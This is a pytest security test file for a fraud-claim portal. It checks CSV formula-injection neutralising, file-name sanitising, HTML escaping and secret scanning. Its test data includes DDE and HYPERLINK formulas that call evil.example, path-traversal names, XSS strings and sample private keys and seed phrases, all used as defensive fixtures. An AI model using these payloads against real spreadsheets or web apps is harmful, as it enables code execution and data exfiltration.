"""Hostile text through every output: CSV formula injection on every export and the report bundle,
path tricks and direction overrides in file names, markup in claim text, the secret scanner on every
free-text field of the claim portal."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from app import access, claims, uploads
from app.cli import main
from app.commands.export import EXPORTS
from core.errors import InputError, SecretRefusedError
from core.evidence import safe_name
from core.workspace import Workspace
from ingest.api import ingest_file
from tests.app.conftest import APP_DIR, AppFor, People
from tests.security.conftest import TRADES, Report

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _dangerous(cell: str) -> bool:
    if not cell.startswith(FORMULA_START):
        return False
    try:
        float(cell)  # a signed plain number is data, not a formula
        return False
    except ValueError:
        return True


def _check_csv(text: str, where: str) -> int:
    n = 0
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not _dangerous(cell), f"{where}: cell {cell!r} would run as a formula"
            n += 1
    return n


def _seed_hostile(ws: Workspace, tmp_path: Path) -> None:
    """Trades under an account named like a formula, a finding copied from them, hostile transfer text."""
    for i, account in enumerate(FORMULAS[:3]):
        src = tmp_path / f"t{i}.csv"
        src.write_text(TRADES.read_text().replace("2021-06-", f"2021-0{7 + i}-"))
        ingest_file(ws, src, account=account)
    with ws.db.write() as con:
        con.execute("""INSERT INTO unauthorized_trades (exchange, account, evidence_sha256, source_row, time_utc,
                       pair, side, price, quantity, quote_quantity, fee, fee_asset, score, reasons, session_id,
                       campaign_id, anchor_utc)
                       SELECT exchange, account, evidence_sha256, source_row, time_utc, pair, side, price, quantity,
                              quote_quantity, fee, fee_asset, 90, '=1+1;@SUM(A1)', 1, '+campaign', time_utc
                       FROM trades""")


def test_no_export_writes_a_cell_a_spreadsheet_would_run(ws: Workspace, tmp_path: Path, report: Report,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    _seed_hostile(ws, tmp_path)
    cells = 0
    for kind in sorted(EXPORTS):
        out = tmp_path / f"{kind}.csv"
        assert main(["--db", str(ws.settings.db_path), "export", kind, "--out", str(out)]) == 0, \
            capsys.readouterr().err
        text = out.read_text()
        cells += _check_csv(text, f"export {kind}")
        if kind in ("trades", "findings"):
            assert "'=HYPERLINK" in text and "'+cmd" in text  # kept, neutralised, not dropped
    report(f"formula injection: {len(EXPORTS)} exports ({', '.join(sorted(EXPORTS))}), {cells} cells, "
           "0 runnable formulas")


def test_the_report_bundle_csvs_neutralise_formulas(ws: Workspace, people: People, tmp_path: Path,
                                                   report: Report, capsys: pytest.CaptureFixture[str]) -> None:
    claim = claims.file_claim(ws, people.victim, exchange="binance", account=FORMULAS[0],
                              contact_name="=HYPERLINK(\"http://evil.example\")", contact_email="vera@example.org",
                              statement="@SUM(1+1)", claimed_loss_usd="100")
    src = tmp_path / "t.csv"
    src.write_text(TRADES.read_text())
    ingest_file(ws, src, account=FORMULAS[0])
    out = tmp_path / "bundle.zip"
    status = main(["--db", str(ws.settings.db_path), "report", "bundle", "claim", str(claim), "--out", str(out),
                   "--unsigned"])
    assert status == 0, capsys.readouterr().err
    checked = cells = 0
    with zipfile.ZipFile(out) as zf:
        for name in zf.namelist():
            if name.endswith(".csv"):
                cells += _check_csv(zf.read(name).decode("utf-8-sig"), f"bundle {name}")
                checked += 1
    assert checked >= 1
    report(f"formula injection: report bundle, {checked} CSV files, {cells} cells, 0 runnable formulas")


@pytest.mark.parametrize("name", [
    "../../etc/passwd", "..\\..\\windows\\system32\\evil.csv", "/abs/path/trades.csv", "trades\u202egpj.csv",
    "\u2066trades\u2069.csv", "trad\x00es.csv", ".hidden.csv", "   ", "a" * 400 + ".csv", "CON\r\n.csv"])
def test_file_names_lose_directories_controls_and_direction_overrides(name: str) -> None:
    clean = safe_name(name)
    assert "/" not in clean and "\\" not in clean and not clean.startswith(".")
    assert not any(c in clean for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f")
    assert all(ord(c) >= 32 for c in clean)
    assert 0 < len(clean) <= 200


def test_an_upload_with_a_path_trick_name_is_stored_under_its_base_name(ws: Workspace, people: People,
                                                                      tmp_path: Path) -> None:
    claim = claims.file_claim(ws, people.victim, exchange="binance", account="38811234",
                              contact_email="vera@example.org")
    src = tmp_path / "upload.csv"
    src.write_text(TRADES.read_text())
    uploads.attach_upload(ws, people.victim, claim, src, original_name="../../../\u202eexe.csv")
    got = claims.get_claim(ws, people.victim, claim).evidence
    assert [e["original_name"] for e in got] == ["exe.csv"]
    assert not any(p.name == "exe.csv" for p in tmp_path.parent.parent.rglob("exe.csv"))


def test_upload_limits_size_and_count(ws: Workspace, people: People, tmp_path: Path,
                                      monkeypatch: pytest.MonkeyPatch) -> None:
    claim = claims.file_claim(ws, people.victim, exchange="binance", account="38811234",
                              contact_email="vera@example.org")
    src = tmp_path / "upload.csv"
    src.write_text(TRADES.read_text())
    monkeypatch.setattr(uploads, "MAX_UPLOAD_BYTES", src.stat().st_size - 1)
    with pytest.raises(InputError, match="larger than"):
        uploads.attach_upload(ws, people.victim, claim, src)
    monkeypatch.setattr(uploads, "MAX_UPLOAD_BYTES", 200 * 1024 * 1024)
    monkeypatch.setattr(uploads, "MAX_UPLOADS_PER_CLAIM", 1)
    uploads.attach_upload(ws, people.victim, claim, src)
    other = tmp_path / "other.csv"
    other.write_text(TRADES.read_text().replace("2021-06-14 21:52:18", "2021-06-15 21:52:18"))
    with pytest.raises(InputError, match="already holds 1 files"):
        uploads.attach_upload(ws, people.victim, claim, other)
    assert len(claims.get_claim(ws, people.victim, claim).evidence) == 1


MARKUP = ["<script>alert('x')</script>", "<img src=x onerror=alert(1)>", "**bold** [link](javascript:alert(1))",
          ":red[red] $x^2$ <b>b</b>"]


def test_claim_text_is_never_rendered_as_markup(ws: Workspace, people: People, app_for: AppFor) -> None:
    """Markup in every free-text claim field reaches the victim's and the investigator's pages only as
    literal text: no unsafe HTML element, and Markdown elements carry it escaped."""
    story = " | ".join(MARKUP)
    claim = claims.file_claim(ws, people.victim, exchange="binance", account="<b>38811234</b>",
                              contact_name="<script>alert(1)</script>", contact_email="vera@example.org",
                              statement=story, claimed_loss_usd="10")
    claims.dispute(ws, people.victim, claim, "<img src=x onerror=alert(2)> **disputed**")
    claims.add_note(ws, people.investigator, claim, "<iframe src=//evil></iframe>")
    seen_literal = 0
    for user, page in ((people.victim, "views/my_claims.py"), (people.investigator, "views/claims_queue.py")):
        at = app_for(user, page)
        assert not at.exception
        assert not [h for h in at.get("html")], "a page renders raw HTML"
        for md in at.markdown:
            assert not md.proto.allow_html or "<script" not in md.value, md.value
            for bad in ("<script>", "<img src", "<iframe", "javascript:alert(1))"):
                assert bad not in md.value, f"unescaped user text in Markdown: {md.value!r}"
        plain = [str(t.value) for t in at.text] + [str(c.value) for c in at.code]
        plain += [str(v) for d in at.dataframe for v in d.value.astype(str).to_numpy().ravel()]
        seen_literal += sum(story in p or "<script>alert(1)</script>" in p for p in plain)
    assert seen_literal >= 1, "the statement is shown nowhere as literal text"
    assert (APP_DIR / "views").is_dir()


SECRET_SAMPLES = {
    "hex private key": "0x4c0883a69102937d6231471b5dbb6204fe5129617082792ae468d01a3f362318",
    "seed phrase": "abandon ability able about above absent absorb abstract absurd abuse access accident",
    "PEM key": "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----",
    "labelled secret": "secret: Zx8fK2pQ9vLm3nR7tY1uW4oE6aS5dF0g",
}
FIELDS = ("account", "contact_name", "contact_email", "contact_phone", "statement")


@pytest.mark.parametrize("field", FIELDS)
def test_the_secret_scanner_guards_every_free_text_field(ws: Workspace, people: People, field: str,
                                                         report: Report) -> None:
    base = {"exchange": "binance", "account": "38811234", "contact_email": "vera@example.org",
            "statement": "traded into AKRO"}
    refused = 0
    for label, secret in SECRET_SAMPLES.items():
        before = len(claims.list_claims(ws, people.investigator))
        with pytest.raises(InputError) as info:
            claims.file_claim(ws, people.victim, **{**base, field: f"note {secret} end"})
        # a short field (phone, UID) may refuse the text for its length before the scanner reads it
        assert isinstance(info.value, SecretRefusedError) or "longer than" in str(info.value), label
        assert secret not in str(info.value) and "\n" not in str(info.value), label
        assert len(claims.list_claims(ws, people.investigator)) == before
        refused += 1
    claim = claims.file_claim(ws, people.victim, **base)
    for fn in (lambda s: claims.dispute(ws, people.victim, claim, s),
               lambda s: claims.add_note(ws, people.investigator, claim, s)):
        for secret in SECRET_SAMPLES.values():
            with pytest.raises(SecretRefusedError):
                fn(f"look: {secret}")
            refused += 1
    if field == FIELDS[-1]:
        report(f"secret scanner: {len(FIELDS)} claim fields + dispute + note, {len(SECRET_SAMPLES)} secret kinds, "
               f"{refused} refusals in this field's run, none stored")
    assert access.can("victim", "claims.file")


def test_no_page_can_render_raw_html() -> None:
    """Static guard for the markup test: no app code opens a raw-HTML path that user text could reach."""
    offenders = []
    for path in sorted(APP_DIR.rglob("*.py")):
        text = path.read_text()
        for needle in ("unsafe_allow_html=True", "st.html(", "components.html(", "components.v1.html("):
            if needle in text:
                offenders.append(f"{path.relative_to(APP_DIR)}: {needle}")
    assert not offenders, offenders


@pytest.mark.parametrize("char", ["\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069", "\u202a", "\x00", "\x1b"])
@pytest.mark.parametrize("field", FIELDS)
def test_direction_overrides_and_controls_are_refused_in_every_claim_field(ws: Workspace, people: People, field: str,
                                                                          char: str) -> None:
    """A UID like '1234\u202e5678' would display as '12348765' in the investigators' queue."""
    base = {"exchange": "binance", "account": "38811234", "contact_email": "vera@example.org",
            "statement": "traded into AKRO"}
    value = {"contact_email": f"vera{char}@example.org"}.get(field, f"1234{char}5678")
    with pytest.raises(InputError, match="invisible control or text-direction"):
        claims.file_claim(ws, people.victim, **{**base, field: value})
    assert claims.list_claims(ws, people.investigator) == []


def test_right_to_left_text_itself_is_welcome(ws: Workspace, people: People) -> None:
    claim = claims.file_claim(ws, people.victim, exchange="binance", account="38811234",
                              contact_name="\u05d3\u05e0\u05d4 \u05db\u05d4\u05df", contact_email="dana@example.org",
                              statement="\u0633\u064f\u0631\u0642\u062a \u0623\u0645\u0648\u0627\u0644\u064a\u200f\nline two\tend")
    got = claims.get_claim(ws, people.investigator, claim)
    assert got.contact_name == "\u05d3\u05e0\u05d4 \u05db\u05d4\u05df" and got.statement is not None and "\u200f" in got.statement
